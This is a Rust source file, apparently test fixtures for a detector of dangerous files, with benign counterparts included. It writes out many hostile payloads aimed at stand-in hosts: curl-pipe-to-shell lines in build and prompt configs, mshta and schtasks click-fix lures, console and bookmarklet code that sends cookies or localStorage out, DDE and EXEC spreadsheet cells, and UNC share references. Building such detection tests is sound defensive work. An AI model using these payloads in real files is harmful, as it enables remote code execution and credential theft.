//! A8, A9, A13, A17, A18, A30, A33, A36, A37, H: what documents, messages, data and projects start, fetch or lead to without
//! anybody asking, in kinds that few people know to do so.

use crate::Standin;
use crate::build::archive::gzip;
use crate::build::compound::compound;
use crate::build::page::{html, pdf};
use crate::build::zip;

const SETTINGS: &str = "detect/settings";
const DOCUMENTS: &str = "detect/documents";
const PAGES: &str = "detect/pages";
const HOOKS: &str = "detect/hooks";
const MAIL: &str = "formats/mail";
const SHARE: &str = "\\\\host.invalid\\share\\";

pub(super) fn all() -> Vec<Standin> {
    [office(), messages(), pages(), data(), settings(), honest()].concat()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A message of Outlook with one named property, by its number and the end of its stream's name.
fn message(number: u32, kind: &str, value: &[u8]) -> Vec<u8> {
    let names = [&number.to_le_bytes()[..], &[6, 0, 0, 0]].concat();
    compound(&[
        ("/__properties_version1.0", &[0; 32]),
        ("/__substg1.0_0037001F", &wide("Meeting")),
        ("/__nameid_version1.0/__substg1.0_00030102", &names),
        (&format!("/__substg1.0_8000{kind}"), value),
    ])
}

/// A mail with one part of this type.
fn mail(declared: &str, body: &str) -> Vec<u8> {
    format!("From: a@host.invalid\r\nTo: b@host.invalid\r\nSubject: Meeting\r\nDate: Mon, 5 Jan 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nSee you on Monday.\r\n--q\r\nContent-Type: {declared}\r\n\r\n{body}\r\n--q--\r\n").into_bytes()
}

/// A record of a binary workbook ([MS-XLSB] 2.1.4).
fn record(id: u16, data: &[u8]) -> Vec<u8> {
    let number = |value: usize| [(value & 0x7f) as u8 | 0x80, (value >> 7) as u8];
    [&number(usize::from(id))[..], &number(data.len()), data].concat()
}

/// A workspace of R, packed as `save` packs it, with one function under a name and what it calls.
fn workspace(name: &str, called: &str) -> Vec<u8> {
    let symbol =
        |name: &str| [&[0, 0, 0, 1, 0, 4, 0, 9][..], &(name.len() as u32).to_be_bytes(), name.as_bytes()].concat();
    let head = b"RDX3\nX\n\0\0\0\x03\0\x04\x03\x01\0\x03\x05\0\0\0\0\x05UTF-8";
    // A pair with a tag, a function with an environment, no arguments, a call of one thing, and the end.
    let (pair, function, global, end) = ([0, 0, 4, 2], [0, 0, 4, 3], [0, 0, 0, 253], [0, 0, 0, 254]);
    let call = [&[0, 0, 0, 6][..], &symbol(called), &end].concat();
    let plain = [&head[..], &pair, &symbol(name), &function, &global, &end, &call, &end].concat();
    gzip("", &plain)
}

#[rustfmt::skip]
fn office() -> Vec<Standin> {
    let new = |row, folder, name, what, bytes: Vec<u8>| Standin::new(row, folder, name, what, bytes);
    // A sheet with a formula that has a text and calls function 150, CALL.
    let tokens = [&[0x17, 1, 0, b'a', 0, 0x42, 1, 150, 0][..], &[0; 4]].concat();
    let formula = [&[0; 18][..], &9_u32.to_le_bytes(), &tokens].concat();
    let sheet = [record(129, &[]), record(9, &formula), record(130, &[])].concat();
    let binary = zip::of(&[
        ("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>"#),
        ("xl/workbook.bin", &[record(131, &[]), record(132, &[])].concat()),
        ("xl/worksheets/sheet1.bin", &sheet),
    ]);
    let reference = pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /GoToR /F (/203.0.113.5/share/a.pdf) /D [0 /Fit] >> >>] >>",
    ]);
    vec![
        new("A8", "formats/shortcut", "prices.slk", "a SYLK table with a macro under a name", b"ID;N;E\r\nNN;NAuto_open;EEXEC(\"calc\")\r\nC;X1;Y1;K2\r\nE\r\n".to_vec()).part("macro-sheet", "excel4-macro").finds("macros.auto-run").blocked(),
        new("A9", DOCUMENTS, "prices.csv", "a table with a cell that runs a program within another function", b"item,price\n\"=IF(1,EXEC(\"\"calc\"\"),0)\",2\n".to_vec()).finds("document.active-cell").held(),
        new("A9", DOCUMENTS, "prices.dif", "a data interchange file with a cell that runs a command", b"TABLE\r\n0,1\r\n\"EXCEL\"\r\nVECTORS\r\n0,1\r\n\"\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n\"=cmd|'/c calc'!A0\"\r\n-1,0\r\nEOD\r\n".to_vec()).finds("document.dde-cell").held(),
        new("A9", "formats/ooxml", "prices.xlsb", "a binary workbook that calls a library", binary).finds("ooxml.library-formula").held(),
        new("A13", "detect/pdfs", "plan.pdf", "a PDF that names a share behind one slash", reference).finds("pdf.remote-share").held(),
    ]
}

#[rustfmt::skip]
fn messages() -> Vec<Standin> {
    let new = |row, folder, name, what, bytes: Vec<u8>| Standin::new(row, folder, name, what, bytes);
    let script = [&[4, 0, 0, 0][..], &wide("Function Item_Open()\r\nMsgBox \"hello\"\r\nEnd Function")].concat();
    vec![
        new("A18", "formats/cfb", "meeting.msg", "a message whose reminder sounds from a share", message(0x851f, "001F", &wide(&format!("{SHARE}a.wav")))).finds("mail.remote-property").held(),
        new("A18", "formats/cfb", "meeting.msg", "a message with a form and its script", message(0x8541, "0102", &script)).finds("mail.form-script"),
        new("A18", MAIL, "meeting.eml", "a mail that is one piece of a message", b"From: a@host.invalid\r\nTo: b@host.invalid\r\nSubject: Meeting\r\nMIME-Version: 1.0\r\nContent-Type: message/partial; number=1; total=2; id=\"a@host.invalid\"\r\n\r\nU2VlIHlvdQ==\r\n".to_vec()).incomplete("one piece of a message").held(),
        new("A18", MAIL, "meeting.eml", "a mail whose page for AMP searches another machine", mail("text/x-amp-html", "<!doctype html><html amp4email><a href=\"search-ms:query=a&amp;crumb=location:\\\\host.invalid\\share\">more</a></html>")).part("body.html", "html"),
        new("A18", MAIL, "meeting.eml", "an invitation in a mail that leads to a program on a share", mail("text/calendar; method=REQUEST", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nATTACH:file://host.invalid/share/a.exe\r\nEND:VEVENT\r\nEND:VCALENDAR")).part("body#2", "ics"),
        new("A17", PAGES, "note.txt", "a text that gives a reason and shows a command", b"To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a\n".to_vec()).finds("script.download-and-run").blocked(),
    ]
}

#[rustfmt::skip]
fn pages() -> Vec<Standin> {
    let new = |row, name, what, bytes: Vec<u8>| Standin::new(row, PAGES, name, what, bytes);
    vec![
        new("A17", "page.html", "a page that copies a task for every sign-in", html("", "<b onclick=\"navigator.clipboard.writeText('schtasks /create /tn a /sc onlogon /tr &quot;mshta https://host.invalid/a&quot;')\">Copy</b>")).finds("page.click-fix").held(),
        new("A17", "page.html", "a page that copies the installation of a manifest", html("", "<b onclick=\"navigator.clipboard.writeText('winget install --manifest https://host.invalid/a.yaml')\">Copy</b>")).finds("page.click-fix").held(),
        new("A18", "page.html", "a page whose form is sent to a share", html("", "<form action='file://host.invalid/share/a'><input name=a></form>")).finds("page.search-ms").held(),
        new("A18", "list.xml", "an XML text with types on a share", b"<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"file://host.invalid/share/a.dtd\">\n<a/>\n".to_vec()).finds("page.search-ms").held(),
        new("A33", "page.html", "a page that has people paste code into the console", html("", "<p>Press Ctrl+Shift+J and type allow pasting. Then paste it:</p><pre>fetch(\"https://host.invalid\", {method: \"POST\", body: JSON.stringify(localStorage)})</pre>")).finds("page.sign-in-lure").held(),
        new("A33", "page.html", "a page with a bookmark that sends cookies away", html("", "<p>Drag this button to your bookmarks bar:</p><a href=\"javascript:(function(){fetch('https://host.invalid/?'+document.cookie)})()\">Verify</a>")).finds("page.sign-in-lure").held(),
    ]
}

#[rustfmt::skip]
fn data() -> Vec<Standin> {
    let new = |row, folder, name, what, text: &str| Standin::new(row, folder, name, what, text.into());
    vec![
        Standin::new("A30", HOOKS, ".RData", "a workspace of R that starts a program", workspace(".First", "system")).finds("hooks.model-code").held(),
        new("A30", HOOKS, "model_config.yaml", "settings of a model that have a function called", "model:\n  _target_: os.system\n  command: echo hello\n").finds("hooks.model-code").held(),
        new("A37", DOCUMENTS, "plant.mdl", "a model of Simulink that runs a command when it is loaded", "Model {\n  Name \"plant\"\n  PreLoadFcn \"system('echo hello')\"\n}\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "shot.nk", "a script of Nuke that runs a command when it is opened", "Root {\n onScriptLoad \"import os; os.system('echo hello')\"\n}\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "notes.org", "a text of Org whose links run a command", "#+TITLE: Notes\n#+LINK: x %(shell-command-to-string \"echo\")\n[[x:y]]\n").finds("document.shell-escape").held(),
        new("A37", DOCUMENTS, "dump.sql", "a dump that leaves the database", "SET a = 0;\n\\! curl -s https://host.invalid/a | sh\nCREATE TABLE a(i int);\n").finds("document.shell-escape").held(),
        new("A37", "detect/shortcuts", "lamp.mtl", "a material whose picture lies on a share", "newmtl lamp\nmap_Kd \\\\host.invalid\\share\\a.png\n").finds("shortcut.remote-target").held(),
        new("A37", "detect/shortcuts", "album.cue", "a sheet of a recording on a share", "FILE \"\\\\host.invalid\\share\\a.wav\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n").finds("shortcut.remote-target").held(),
        new("A37", SETTINGS, "song.ly", "a score of LilyPond that runs a command", "\\version \"2.24.0\"\n#(system \"echo hello\")\n{ c }\n").finds("hooks.folder-open").held(),
    ]
}

#[rustfmt::skip]
fn settings() -> Vec<Standin> {
    let new = |name, what, text: &str| Standin::new("A36", SETTINGS, name, what, text.into());
    vec![
        new("starship.toml", "a prompt that fetches something and runs it", "[custom.a]\ncommand = 'curl -s https://host.invalid/a | sh'\nwhen = true\n").finds("hooks.shell-entry").held(),
        new("main.tf.json", "a plan of Terraform that runs what it fetches", r#"{"resource": {"null_resource": {"a": {"provisioner": {"local-exec": {"command": "curl -s https://host.invalid/a | sh"}}}}}}"#).finds("hooks.build").held(),
        new("printer.ini", "settings of a slicer that run what they fetch", "# settings\npost_process = sh -c 'curl -s https://host.invalid/a | sh'\n").finds("hooks.build").held(),
        new("flows.json", "a flow of Node-RED that runs what it fetches", r#"[{"type": "exec", "command": "curl -s https://host.invalid/a | sh"}]"#).finds("hooks.build").held(),
        new("gradle.properties", "settings of Gradle that load code into it", "org.gradle.jvmargs=-Xmx1g -javaagent:./a.jar\n").finds("hooks.build").held(),
        new("requirements.txt", "a list of packages from an index without TLS", "--index-url http://host.invalid/simple\nflask==3.0\n").finds("hooks.plain-index"),
        new("NuGet.Config", "a source of packages without TLS", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n<packageSources>\n<add key=\"a\" value=\"http://host.invalid/v3/index.json\" />\n</packageSources>\n</configuration>\n").finds("hooks.plain-index"),
    ]
}

/// The same as people have them.
#[rustfmt::skip]
fn honest() -> Vec<Standin> {
    let new = |folder, name, what, text: &str| Standin::new("H", folder, name, what, text.into()).delivered();
    vec![
        new(SETTINGS, "requirements.txt", "a list of packages from an index of the house", "--index-url http://localhost:3141/root/pypi\nflask==3.0\n"),
        new(DOCUMENTS, "plant.mdl", "a model of Simulink that loads its data", "Model {\n  Name \"plant\"\n  PreLoadFcn \"load data.mat\"\n}\n"),
        new(DOCUMENTS, "dump.sql", "a dump that stays in the database", "SET a = 0;\n\\connect shop\nCREATE TABLE a(i int);\nINSERT INTO a VALUES (1);\n"),
        new(SETTINGS, "starship.toml", "a prompt that shows the commit", "[custom.a]\ncommand = 'git rev-parse HEAD'\nwhen = true\n"),
        new(PAGES, "manual.html", "a manual that copies the installation of a known package", &String::from_utf8_lossy(&html("", "<p>Install it:</p><b onclick=\"navigator.clipboard.writeText('winget install --id Git.Git -e --source winget')\">Copy</b>"))),
        Standin::new("H", HOOKS, "a.RData", "a workspace of R with a function", workspace("total", "sum")).delivered(),
    ]
}
